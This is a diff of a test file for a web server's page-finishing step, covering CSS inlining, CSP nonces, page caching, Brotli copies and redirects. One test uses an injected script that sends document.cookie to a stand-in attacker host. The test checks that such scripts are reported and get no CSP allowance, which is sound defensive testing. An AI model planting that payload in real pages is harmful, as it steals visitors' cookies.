@@ -4,7 +4,6 @@ import { Socket } from 'node:net';
 import { brotliDecompressSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { createPageFinisher, type PagePlan } from '@/server/http/finish-page';
-import { createFinishedPageCache } from '@/server/http/finished-page-cache';
 import { createPageCache } from '@/server/http/page-cache';
 import { SHARED_PAGE_CACHE_CONTROL } from '@/server/http/page-cache-headers';
 import { PLACEHOLDERS, visitorValues } from '@/server/http/page-template';
@@ -37,7 +36,6 @@ function setUp() {
   const refusals: number[] = [];
   const { finishPage, sendKeptPage } = createPageFinisher({
     readStylesheet: (href) => (href === CSS_HREF ? CSS : undefined),
-    finishedPages: createFinishedPageCache(),
     https: false,
     onRefused: (refused) => refusals.push(refused),
   });
@@ -48,13 +46,13 @@ function setUp() {
 
 /** What a response was ended with (sendKeptPage sends the page itself). */
 function sentBody(response: ServerResponse) {
-  let body = '';
+  let body: Buffer = Buffer.alloc(0);
   const end = response.end.bind(response);
   response.end = ((chunk?: Buffer) => {
-    body = chunk ? chunk.toString() : '';
+    body = chunk ?? Buffer.alloc(0);
     return end();
   }) as typeof response.end;
-  return () => body;
+  return Object.assign(() => body.toString(), { bytes: () => body });
 }
 
 const scriptSources = (response: ServerResponse) =>
@@ -65,8 +63,8 @@ describe('finishing a page', () => {
     const { finishPage, pageCache, refusals, context } = setUp();
     const fill = pageCache.startFill('/about');
     const plan: PagePlan = { renderNonce: 'render-1', policyNonce: '', sharing: 'shared', fill };
-    const { request, response } = exchange('br');
-    const body = finishPage(request, response, context(), plan, page('render-1')).toString();
+    const { response } = exchange('br');
+    const body = finishPage(response, context(), plan, page('render-1')).toString();
 
     expect(body).toContain(`<style data-inlined-from="${CSS_HREF}">.used{color:red}</style>`);
     expect(body).not.toContain('.unused');
@@ -79,27 +77,24 @@ describe('finishing a page', () => {
     expect(pageCache.get('/about')?.body.toString()).toBe(body);
     expect(refusals).toEqual([]);
 
-    // The same bytes again (from Next.js's cache): sent as the Brotli copy made in the background.
-    await expect
-      .poll(() => {
-        const again = exchange('br');
-        const sent = finishPage(
-          again.request,
-          again.response,
-          context(),
-          { ...plan, fill: undefined },
-          page('render-1'),
-        );
-        return again.response.getHeader('content-encoding') === 'br' && brotliDecompressSync(sent).toString();
-      })
-      .toBe(body);
+    // The kept page, once its Brotli copy is made in the background, is sent as that copy.
+    const { sendKeptPage } = setUp();
+    await expect.poll(() => pageCache.get('/about')?.compressed.br !== undefined).toBe(true);
+    const kept = pageCache.get('/about');
+    if (!kept) return;
+    const again = exchange('br');
+    const sent = sentBody(again.response);
+    sendKeptPage(again.request, again.response, kept);
+    expect(again.response.getHeader('content-encoding')).toBe('br');
+    expect(again.response.getHeader('x-page-cache')).toBe('HIT');
+    expect(brotliDecompressSync(sent.bytes()).toString()).toBe(body);
   });
 
   it('a page for one visitor: its policy names the nonce, and nothing keeps it', () => {
     const { finishPage, refusals, context } = setUp();
-    const { request, response } = exchange();
+    const { response } = exchange();
     const plan: PagePlan = { renderNonce: 'visitor-1', policyNonce: 'visitor-1', sharing: undefined };
-    finishPage(request, response, context(), plan, page('visitor-1'));
+    finishPage(response, context(), plan, page('visitor-1'));
     expect(scriptSources(response)).toEqual(['script-src', "'self'", "'nonce-visitor-1'"]);
     expect(response.hasHeader('x-page-cache')).toBe(false);
     expect(refusals).toEqual([]);
@@ -110,7 +105,7 @@ describe('finishing a page', () => {
     const visitor = visitorValues('a-test-secret-that-is-long-enough-0123456789');
     const form = `<form><input value="${PLACEHOLDERS.formStartToken}"><input value="${PLACEHOLDERS.idempotencyKey}"></form>`;
     const fill = pageCache.startFill('/order');
-    const { request, response } = exchange();
+    const { response } = exchange();
     const plan: PagePlan = {
       renderNonce: PLACEHOLDERS.nonce,
       policyNonce: visitor.nonce,
@@ -118,7 +113,7 @@ describe('finishing a page', () => {
       visitor,
       fill,
     };
-    const sent = finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
+    const sent = finishPage(response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
     expect(sent).toContain(visitor.formStartToken);
     expect(sent).toContain(`nonce="${visitor.nonce}"`);
     expect(scriptSources(response)).toContain(`'nonce-${visitor.nonce}'`);
@@ -145,12 +140,12 @@ describe('finishing a page', () => {
   it('a redirect: a line with the link instead of Next.js’s page, nothing that runs, kept for a minute', () => {
     const { finishPage, sendKeptPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/products');
-    const { request, response } = exchange();
+    const { response } = exchange();
     response.statusCode = 307;
     response.setHeader('Location', '/products/fish-seed?a=1&b="2"');
     response.setHeader('Cache-Control', 's-maxage=3600, stale-while-revalidate=31532400');
     const plan: PagePlan = { renderNonce: 'r3', policyNonce: '', sharing: 'shared', fill };
-    const body = finishPage(request, response, context(), plan, page('r3')).toString();
+    const body = finishPage(response, context(), plan, page('r3')).toString();
     expect(body).toContain('<a href="/products/fish-seed?a=1&amp;b=&quot;2&quot;">');
     expect(body).not.toContain('<script');
     expect(scriptSources(response)).toEqual(['script-src', "'self'"]);
@@ -166,16 +161,17 @@ describe('finishing a page', () => {
     expect(again.response.statusCode).toBe(307);
     expect(again.response.getHeader('location')).toBe('/products/fish-seed?a=1&b="2"');
     expect(again.response.getHeader('x-page-cache')).toBe('HIT');
-    expect(sent()).toBe(body);
+    expect(again.response.getHeader('content-encoding')).toBe('br');
+    expect(brotliDecompressSync(sent.bytes()).toString()).toBe(body);
   });
 
   it('a redirect rendered afresh names its address once (Next.js sets it twice then)', () => {
     const { finishPage, context } = setUp();
-    const { request, response } = exchange();
+    const { response } = exchange();
     response.statusCode = 307;
     response.setHeader('Location', ['/products/fish-seed', '/products/fish-seed']);
     const plan: PagePlan = { renderNonce: 'r4', policyNonce: '', sharing: 'shared' };
-    const body = finishPage(request, response, context(), plan, page('r4')).toString();
+    const body = finishPage(response, context(), plan, page('r4')).toString();
     expect(response.getHeader('location')).toBe('/products/fish-seed');
     expect(body).toContain('<a href="/products/fish-seed">');
   });
@@ -183,10 +179,9 @@ describe('finishing a page', () => {
   it('a page that met an unreachable database: 503, its request id, kept by nobody', () => {
     const { finishPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/blog');
-    const { request, response } = exchange();
+    const { response } = exchange();
     const unavailable = { ...context(), databaseUnavailable: true };
     const body = finishPage(
-      request,
       response,
       unavailable,
       { renderNonce: 'r', policyNonce: '', sharing: 'shared', fill },
@@ -202,15 +197,9 @@ describe('finishing a page', () => {
 
   it('tells of an inline script that is neither the render’s nor the framework’s', () => {
     const { finishPage, refusals, context } = setUp();
-    const { request, response } = exchange();
+    const { response } = exchange();
     const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
-    finishPage(
-      request,
-      response,
-      context(),
-      { renderNonce: 'r2', policyNonce: '', sharing: 'shared' },
-      page('r2', injected),
-    );
+    finishPage(response, context(), { renderNonce: 'r2', policyNonce: '', sharing: 'shared' }, page('r2', injected));
     expect(refusals).toEqual([1]);
     expect(scriptSources(response)).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
   });
